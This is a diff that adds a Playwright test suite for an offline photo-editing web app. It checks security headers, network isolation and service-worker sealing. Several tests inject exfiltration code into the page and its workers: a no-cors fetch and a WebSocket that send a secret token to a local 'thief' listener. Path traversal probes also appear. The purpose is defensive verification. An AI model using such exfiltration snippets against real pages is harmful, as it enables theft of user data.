@@ -1,0 +1,187 @@
+import { randomBytes } from 'node:crypto'
+import { type BrowserContext, expect as check, type Page, test as plain } from '@playwright/test'
+import { servedFiles } from '../../hosting/answer'
+import { securityHeaders } from '../../src/core/seal'
+import { openProfile } from '../support/browser'
+import { type Escape, escapes } from '../support/escapes'
+import { expect, listenFor, openStudio, test } from '../support/fixtures'
+import { listener } from '../support/listener'
+import { inRepository } from '../support/shared'
+import { type Site, serveBuilt, serveUnsealed } from '../support/site'
+
+const parts = async () => (await servedFiles(inRepository('dist'))).filter((file) => file.startsWith('parts/'))
+
+plain('every answer of the host carries the whole seal', async () => {
+  const site = await serveBuilt()
+  const files = await servedFiles(inRepository('dist'))
+  const seal = securityHeaders(site.origin, ['/', ...files.map((file) => `/${file}`)])
+  const answers: [path: string, status: number, init?: RequestInit][] = [
+    ['/', 200],
+    ['/sw.js', 200],
+    [`/${(await parts())[0]}`, 200],
+    ['/no-such-page', 404],
+    ['/parts/no-such-model.bin', 404],
+    ['/assets/no-such-runtime.wasm', 404],
+    ['/../package.json', 404],
+    ['/%2e%2e/package.json', 404],
+    ['/_headers', 404],
+    ['/', 405, { method: 'POST', body: 'x' }],
+  ]
+  for (const [path, status, init] of answers) {
+    const response = await fetch(site.origin + path, init)
+    check(response.status, path).toBe(status)
+    for (const [name, value] of Object.entries(seal)) check(response.headers.get(name), `${name} of ${path}`).toBe(value)
+  }
+  for (const path of ['/parts/no-such-model.bin', '/assets/no-such-runtime.wasm', '/ort.wasm']) {
+    const response = await fetch(site.origin + path)
+    check(response.headers.get('content-type')).toContain('text/plain')
+    check(await response.text()).not.toContain('<')
+  }
+  check((await fetch(`${site.origin}/sw.js`)).headers.get('cache-control')).toBe('max-age=86400')
+  check((await fetch(`${site.origin}/`)).headers.get('cache-control')).toBe('no-cache')
+  await site.close()
+})
+
+test('the app opens isolated and breaks none of its own rules', async ({ studio }) => {
+  expect(await studio.page.evaluate(() => [crossOriginIsolated, isSecureContext])).toEqual([true, true])
+  await studio.page.reload()
+  await expect(studio.page.getByRole('region', { name: 'Add photos' })).toBeVisible()
+  expect(studio.complaints).toEqual([])
+  expect(studio.site.heard.filter(({ cookie, bodyBytes, url }) => cookie || bodyBytes > 0 || url.includes('?'))).toEqual([])
+})
+
+test('once loaded it asks the network for nothing, and works when the host is gone', async ({ studio }) => {
+  const { page, site, profile } = studio
+  await page.waitForTimeout(3000) // whatever begins by itself after the start has begun
+  await site.close()
+  const mark = Date.now()
+  await page.reload()
+  await expect(page.getByRole('region', { name: 'Add photos' })).toBeVisible()
+  expect(await page.evaluate(() => crossOriginIsolated)).toBe(true)
+  const again = await studio.context.newPage()
+  await again.goto(`${site.origin}/`)
+  await expect(again.getByRole('region', { name: 'Add photos' })).toBeVisible()
+  await page.waitForTimeout(2000)
+  expect(await profile.closeAndTell(mark)).toEqual([])
+})
+
+plain('a host that can set no headers is sealed by the service worker after one reload', async () => {
+  const site = await serveBuilt({ sealed: false })
+  const profile = await openProfile()
+  const page = await profile.context.newPage()
+  const complaints = listenFor(page)
+  let loads = 0
+  page.on('load', () => loads++)
+  await openStudio(page, site.origin)
+  check(loads).toBe(2)
+  const policy = (await page.reload())?.headers()['connection-allowlist']
+  check(policy).toContain(`"${site.origin}/?"`)
+  check(complaints).toEqual([])
+  await profile.end()
+  await site.close()
+})
+
+plain('a net-log shows what a page asks for', async () => {
+  const site = await serveUnsealed()
+  const profile = await openProfile()
+  const page = await profile.context.newPage()
+  await page.goto(site.origin)
+  const mark = Date.now()
+  await page.evaluate(() => fetch('/asked?for=1'))
+  const told = await profile.closeAndTell(mark)
+  check(told.filter(({ kind }) => kind === 'request').map(({ to }) => to)).toContain(`${site.origin}/asked?for=1`)
+  await profile.end()
+  await site.close()
+})
+
+/** Tries one way out of a page and returns what the other end heard of the secret; empty = nothing. */
+async function tryEscape(
+  context: BrowserContext,
+  site: Site,
+  way: Pick<Escape, 'code'>,
+  to: 'elsewhere' | 'home',
+  run?: (page: Page, code: string) => Promise<unknown>,
+) {
+  const token = `leak${randomBytes(8).toString('hex')}`
+  const thief = await listener()
+  const page = await context.newPage()
+  const target = to === 'home' ? site.origin : `http://127.0.0.1:${thief.port}`
+  try {
+    await page.goto(`${site.origin}/`)
+    const code = `(async () => { const target = ${JSON.stringify(target)}, token = ${JSON.stringify(token)}; try { ${way.code} } catch (error) { return String(error) } })()`
+    const ran = (run ? run(page, code) : page.evaluate(code)).catch((error: unknown) => String(error))
+    await Promise.race([ran, page.waitForTimeout(2500)])
+    await new Promise((resolve) => setTimeout(resolve, 2500))
+    return to === 'home' ? (site.heard.find(({ raw }) => raw.includes(token))?.raw.slice(0, 80) ?? '') : thief.heard()
+  } finally {
+    await page.close().catch(() => undefined)
+    thief.close()
+  }
+}
+
+async function tryAll(context: BrowserContext, site: Site): Promise<Map<string, string>> {
+  const trials = escapes.flatMap((way) =>
+    (['elsewhere', 'home'] as const).filter((to) => (way.only ?? to) === to).map((to) => ({ way, to })),
+  )
+  const heard = new Map<string, string>()
+  const six = Array.from({ length: 6 }, async () => {
+    for (let trial = trials.pop(); trial; trial = trials.pop())
+      heard.set(`${trial.way.name}, ${trial.to}`, await tryEscape(context, site, trial.way, trial.to))
+  })
+  await Promise.all(six)
+  return heard
+}
+
+const rtcOnLoopback = ['--allow-loopback-in-peer-connection']
+
+plain('hostile code in the page reaches nobody, neither elsewhere nor our own host', async () => {
+  const open = await serveUnsealed()
+  const control = await openProfile({ flags: rtcOnLoopback, guesses: true })
+  const leaked = await tryAll(control.context, open)
+  await control.end()
+  await open.close()
+
+  const site = await serveBuilt()
+  const profile = await openProfile({ flags: rtcOnLoopback, guesses: true })
+  await openStudio(await profile.context.newPage(), site.origin)
+  const heard = await tryAll(profile.context, site)
+  await profile.end()
+  await site.close()
+
+  const alive = [...leaked].filter(([, words]) => words !== '').map(([name]) => name)
+  const out = [...heard].filter(([, words]) => words !== '')
+  console.log(`${heard.size} tried, ${heard.size - out.length} blocked, ${alive.length} with a live control`)
+  console.log(
+    `without live control: ${
+      [...leaked]
+        .filter(([, words]) => words === '')
+        .map(([name]) => name)
+        .join('; ') || 'none'
+    }`,
+  )
+  check(Object.fromEntries(out)).toEqual({})
+  check(alive.length).toBeGreaterThan(heard.size * 0.8)
+})
+
+plain('hostile code inside a worker or the service worker reaches nobody elsewhere', async () => {
+  const site = await serveBuilt()
+  const profile = await openProfile()
+  const page = await profile.context.newPage()
+  await openStudio(page, site.origin)
+  const code = `fetch(target + '/x?' + token, { mode: 'no-cors' }).catch(() => {}); try { new WebSocket(target.replace('http', 'ws') + '/' + token) } catch {}`
+  const inWorker = await tryEscape(profile.context, site, { code }, 'elsewhere', async (opened, script) => {
+    const worker = opened.workers()[0] ?? (await opened.waitForEvent('worker'))
+    return await worker.evaluate(script)
+  })
+  const service = profile.context.serviceWorkers()[0]
+  const inService = await tryEscape(
+    profile.context,
+    site,
+    { code },
+    'elsewhere',
+    (_page, script) => service?.evaluate(script) ?? Promise.reject(new Error('no service worker')),
+  )
+  check({ inWorker, inService }).toEqual({ inWorker: '', inService: '' })
+  await profile.end()
+  await site.close()
+})
